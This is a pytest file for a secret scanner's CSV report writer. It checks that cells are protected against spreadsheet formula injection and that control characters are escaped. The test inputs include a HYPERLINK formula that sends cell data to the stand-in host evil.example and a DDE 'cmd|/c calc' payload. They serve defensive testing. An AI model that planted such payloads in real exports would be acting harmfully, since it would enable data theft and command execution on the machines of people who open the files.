from __future__ import annotations

import csv
import io

import pytest

from keyguard.model import Allowance, Allowed, Occurrence, Report
from keyguard.report.csv_report import COLUMNS
from tests.report.sample import TOKEN, clean_report, finding, history_report, location, provenance, tree_report, written


def rows_of(report: Report, **options: bool) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written(report, "csv", **options), newline="")))


def with_path(path: bytes) -> Report:
    return tree_report()._replace(findings=(finding(0, TOKEN, (Occurrence(location("file", path, 1, 1), None),)),))


def test_a_clean_report_is_a_head_alone() -> None:
    assert written(clean_report(), "csv") == ",".join(f'"{name}"' for name in COLUMNS) + "\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(start: str) -> None:
    path = f'{start}HYPERLINK("http://evil.example/?x="&A1,"a")'
    (row,) = rows_of(with_path(path.encode()))
    assert row["path"] == "'" + path
    author = provenance("1", "head", author=f"{start}cmd|'/c calc'!A1")
    found = finding(0, TOKEN, (Occurrence(location("file", b"a", 1, 1), author),))
    assert rows_of(tree_report()._replace(findings=(found,)))[0]["author"].startswith("'" + start)


@pytest.mark.parametrize("start", ["\t=1", "\r=1", "\n=1"])
def test_control_characters_stand_as_escapes(start: str) -> None:
    (row,) = rows_of(with_path(start.encode()))
    assert row["path"][0] == "\\"


def test_one_row_for_each_place() -> None:
    report = history_report()
    rows = rows_of(report)
    assert [row["rule"] for row in rows] == [each.rule for each in report.findings for _ in each.occurrences]
    assert all(None not in row.values() and None not in row for row in rows)


def test_what_is_allowed_stands_there_when_asked_for() -> None:
    mine = history_report().findings[0]
    report = clean_report()._replace(allowed=(Allowed(mine, Allowance("inline", "keyguard:allow", "a test")),))
    assert rows_of(report) == []
    assert {row["allowed"] for row in rows_of(report, show_allowed=True)} == {"inline: keyguard:allow: a test"}
